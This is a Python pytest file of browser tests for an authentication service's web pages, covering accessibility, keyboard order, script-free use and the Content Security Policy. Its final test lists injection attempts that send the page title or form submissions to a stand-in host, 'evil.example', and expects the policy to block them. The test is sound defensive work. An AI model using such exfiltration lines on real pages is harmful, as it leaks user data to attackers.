"""Every page in a real browser: legible, reachable by keyboard, nothing refused, nothing sideways (WCAG 2.2 AA)."""

import json
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from urllib.parse import parse_qs

import pytest
import uvicorn
from starlette.responses import RedirectResponse
from starlette.types import ASGIApp

from authsvc.web.pages.renderer import Pages, Wishes
from authsvc.web.pages.views import ConsentPage, Form, FormPostPage
from tests.browser import Browser, Tab
from tests.journeys.judging import ALL_RULES, COLOURS, find_faults
from tests.pages.site import BRAND, build_site
from tests.pages.states import STATES, TOKENS

JUDGED = (
    "login-wrong", "login-confirm", "login-locked", "login-long", "consent-long", "consent-expired", "error-request",
    "logout-client", "logged-out-client", "account-new", "account-changed", "sessions", "connections-long",
    "connections-none", "password", "password-short",
)  # fmt: skip
"""By axe, which takes its time: together they show all that there is."""
LIKE_OTHERS = {
    "login-known", "login-empty", "login-expired", "login-busy", "consent-app", "password-empty", "password-wrong",
    "password-long", "password-guessable", "password-expired", "password-busy", "error-expired", "error-not-found",
    "error-not-allowed", "error-fault", "error-limited", "error-busy",
}  # fmt: skip
"""In other words, and no other way."""
LOOKED_AT = [name for name in STATES if name not in LIKE_OTHERS | {"form-post"}]  # which goes on at once


@contextmanager
def serving(app: ASGIApp) -> Iterator[str]:
    config = uvicorn.Config(app, host="127.0.0.1", port=0, lifespan="off", log_level="warning")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        while not server.started:
            assert thread.is_alive()
            time.sleep(0.01)
        host, port = server.servers[0].sockets[0].getsockname()
        yield f"http://{host}:{port}"
    finally:
        server.should_exit = True
        thread.join(10)


@pytest.fixture(scope="module")
def site() -> Iterator[str]:
    with serving(build_site()) as address:
        yield address


@pytest.fixture(scope="module")
def looking(browser: Browser) -> Iterator[Tab]:
    """One tab for all that is only looked at."""
    with browser.open_tab() as tab:
        yield tab


@pytest.fixture
def tab(browser: Browser) -> Iterator[Tab]:
    with browser.open_tab() as tab:
        yield tab


@pytest.mark.parametrize("name", LOOKED_AT)
def test_a_page_fits_and_nothing_in_it_is_refused(looking: Tab, site: str, name: str) -> None:
    """On a phone in the dark, then at a desk by day. German has the longer words."""
    looking.look(320, dark=True)
    looking.open(f"{site}/{name}?ui_locales=de")
    assert _complaints(looking, name) == []
    rules = ALL_RULES if name in JUDGED else ""
    assert find_faults(looking, rules) == []
    looking.look(1280, dark=False)
    assert find_faults(looking, COLOURS if rules else "") == []


def _complaints(tab: Tab, name: str) -> list[str]:
    """Without what is so: the status of the page itself, and a site that does not exist."""
    complaints = tab.complaints()
    if STATES[name].status != 200:
        complaints = [each for each in complaints if "responded with a status of" not in each]
    return [each for each in complaints if "cdn.shop.example" not in each]


FOCUS = "document.activeElement.id || document.activeElement.textContent.trim()"


def _focus(tab: Tab) -> str:
    return str(tab.js(FOCUS))


@pytest.mark.parametrize(
    ("name", "order"),
    [
        ("login-no-logo", ["username", "password", "Show password", "login-submit", "login-cancel"]),
        ("login-known", ["password", "Show password", "login-submit"]),
        ("login-wrong", ["password", "Show password", "login-submit"]),
        ("login-locked", ["problem", "username", "password"]),
        ("consent", ["", "consent-allow", "consent-deny", "consent-switch", "your account",
                     "Privacy at Corner Shop"]),
        ("error-request", ["This link does not work", "Go to Corner Shop", "Details for support"]),
        ("logout", ["", "logout-confirm", "logout-stay"]),
        ("sessions", ["", "account-logout", "Overview", "Where you are logged in", "Connected apps", "Password",
                      "end-2", "end-3", "Log out everywhere else"]),
    ],
)  # fmt: skip
def test_the_keyboard_goes_through_a_page_in_its_order(looking: Tab, site: str, name: str, order: list[str]) -> None:
    tab = looking
    tab.look(1280)
    tab.open(f"{site}/{name}")
    tab.js("document.querySelectorAll('[data-reveal]').forEach(box => { box.id = box.labels[0].textContent.trim() })")
    first, *others = order
    if first:
        tab.until(f"({FOCUS}) === {json.dumps(first)}")
    for expected in others:
        tab.press("Tab")
        assert _focus(tab) == expected
        # Where one is can be seen.
        assert tab.js("getComputedStyle(document.activeElement).outlineStyle") == "solid"
    for expected in reversed(order[1:-1]):
        tab.press("Tab", shift=True)
        assert _focus(tab) == expected


def _sent(tab: Tab) -> dict[str, list[str]]:
    tab.wait_for_load()
    return parse_qs(tab.js("document.getElementById('sent').textContent"), keep_blank_values=True)


@pytest.mark.parametrize("has_scripts", [True, False], ids=["with scripts", "without"])
def test_somebody_logs_in_with_the_keyboard_alone(tab: Tab, site: str, has_scripts: bool) -> None:
    if not has_scripts:
        tab.without_scripts()
    tab.open(f"{site}/login")
    tab.until("document.activeElement.id === 'username'")
    tab.type("ada@example.com")
    tab.press("Tab")
    tab.type("correct horse")
    if has_scripts:
        tab.press("Tab")
        tab.press(" ")  # show the password: it is sent all the same, and from a field that browsers do not remember
        assert tab.js("document.getElementById('password').type") == "text"
        tab.press("Tab", shift=True)
    tab.press("Enter")
    assert _sent(tab) == {
        **{name: [value] for name, value in TOKENS},
        "username": ["ada@example.com"],
        "password": ["correct horse"],
    }
    assert tab.complaints() == []


def test_without_scripts_nothing_is_offered_that_needs_them(tab: Tab, site: str) -> None:
    tab.without_scripts()
    for name in ("login", "password"):
        tab.open(f"{site}/{name}")
        assert tab.js("document.querySelector('.reveal').checkVisibility()") is False


@pytest.mark.parametrize(("button", "answer"), [("consent-allow", "allow"), ("consent-deny", "deny")])
def test_an_answer_is_the_button_that_was_pressed(looking: Tab, site: str, button: str, answer: str) -> None:
    looking.open(f"{site}/consent")
    looking.js(f"document.getElementById({json.dumps(button)}).focus()")
    looking.press("Enter")
    assert _sent(looking)["answer"] == [answer]


def test_a_form_post_page_sends_itself(tab: Tab, site: str) -> None:
    tab.open(f"{site}/form-post")
    while not tab.js("document.getElementById('sent') !== null"):
        tab.wait_for_load()
    sent = parse_qs(tab.js("document.getElementById('sent').textContent"))
    assert sent == {"code": ["SplxlOBeZQQYbYS6WxSbIA"], "state": ['"><&'], "iss": ["http://127.0.0.1"]}
    assert tab.complaints() == []


def _sends_to(address: str) -> ASGIApp:
    return RedirectResponse(address, 303)


def test_an_answer_goes_through_to_where_the_client_sends_people_on(tab: Tab, site: str) -> None:  # AUZ-16
    page = STATES["consent"].page
    assert isinstance(page, ConsentPage)
    with serving(_sends_to(f"{site}/logged-out")) as client, serving(_sends_to(f"{client}/callback")) as answering:
        for going in (
            replace(page, form=Form(f"{answering}/consent"), returns_to=f"{client}/callback"),
            FormPostPage(form=Form(f"{client}/callback", (("code", "x"),))),
        ):
            with serving(Pages(BRAND).draw(going, Wishes())) as ours:
                tab.open(f"{ours}/consent")
                if not isinstance(going, FormPostPage):  # that one goes by itself
                    tab.run("document.querySelector('main button').click()")
                tab.until(f"location.href === {json.dumps(site + '/logged-out')}")


def test_without_scripts_a_form_post_page_is_sent_by_its_button(tab: Tab, site: str) -> None:
    tab.without_scripts()
    tab.open(f"{site}/form-post")
    tab.press("Tab")
    assert _focus(tab) == "form-post-continue"
    tab.press("Enter")
    assert "code" in _sent(tab)


def test_times_are_told_in_the_readers_own_zone(tab: Tab, site: str) -> None:
    tab.call("Emulation.setTimezoneOverride", timezoneId="Asia/Tokyo")
    tab.open(f"{site}/sessions")
    assert "17:05" in tab.js("document.querySelector('time').textContent").replace("05:05 PM", "17:05")
    tab.without_scripts()
    tab.open(f"{site}/sessions")
    assert tab.js("document.querySelector('time').textContent") == "22 November 2026, 08:05 UTC"


REFUSED = """new Promise(told => {
  addEventListener("securitypolicyviolation", event => told(event.effectiveDirective), {once: true});
  %s
})"""


@pytest.mark.parametrize(
    ("attempt", "directive"),
    [
        ("const made = document.createElement('script'); made.text = 'window.ran = 1'; document.body.append(made)",
         "script-src-elem"),
        ("document.body.setAttribute('onclick', 'window.ran = 1'); document.body.click()", "script-src-attr"),
        ("document.body.setAttribute('style', 'display: none')", "style-src-attr"),
        ("new Image().src = 'https://evil.example/?' + document.title", "img-src"),
        ("fetch('https://evil.example/').catch(() => {})", "connect-src"),
        ("document.forms[0].action = 'https://evil.example/'; document.forms[0].submit()", "form-action"),
        ("const base = document.createElement('base'); base.href = 'https://evil.example'; document.head.append(base)",
         "base-uri"),
    ],
    ids=["script", "handler", "style", "image", "request", "form", "base"],
)  # fmt: skip
def test_what_got_into_a_page_would_do_nothing(looking: Tab, site: str, attempt: str, directive: str) -> None:
    looking.open(f"{site}/password")  # HDR-02
    assert looking.js(REFUSED % attempt) == directive
    assert looking.js("window.ran") is None
    assert looking.js("location.pathname") == "/password"
    looking.complaints()
